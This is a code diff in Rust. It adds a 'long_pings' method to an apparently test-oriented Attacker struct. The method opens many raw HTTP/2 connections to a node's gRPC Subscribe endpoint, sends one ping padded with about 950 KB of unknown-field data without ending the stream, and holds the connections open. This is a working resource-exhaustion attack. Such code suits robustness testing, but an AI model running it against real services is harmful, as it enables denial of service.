@@ -273,6 +273,33 @@ impl Attacker {
         callers.join_all().await;
     }
 
+    /// Opens connections that each have a stream with one long ping, and use them no more.
+    pub(crate) async fn long_pings(&self, connections: usize) {
+        use api::subscribe_request::v1::Request;
+        use api::subscribe_request::{V1, Version};
+        let ping = Request::Ping(api::Ping { nonce: 1 });
+        let version = Some(Version::V1(V1 { request: Some(ping) }));
+        let mut message = api::SubscribeRequest { version }.encode_to_vec();
+        // Field 15 by length, which is not known. The whole fits into the window of a call, so that flow control has no say.
+        let padding = vec![0; 950 * 1024];
+        message.push(0x7a);
+        prost::encode_length_delimiter(padding.len(), &mut message).unwrap();
+        message.extend(padding);
+        let path = format!("{QUERY_API}/Subscribe");
+        let call = raw::http2_request_without_end(&path, &raw::grpc_message(&message), 1);
+        let mut open = Vec::new();
+        for _ in 0..connections {
+            let Some(mut stream) = self.send(&raw::http2_preface_without_windows()).await else {
+                continue;
+            };
+            // The node's settings come with the connection's window.
+            let _ = timeout(EXCHANGE, stream.read(&mut [0; 1024])).await;
+            let _ = timeout(EXCHANGE, stream.write_all(&call)).await;
+            open.push(stream);
+        }
+        sleep(HOLD).await;
+    }
+
     pub(crate) async fn registrations(&self) {
         let filter = |number: u32| {
             let mut topic = vec![0; 33];
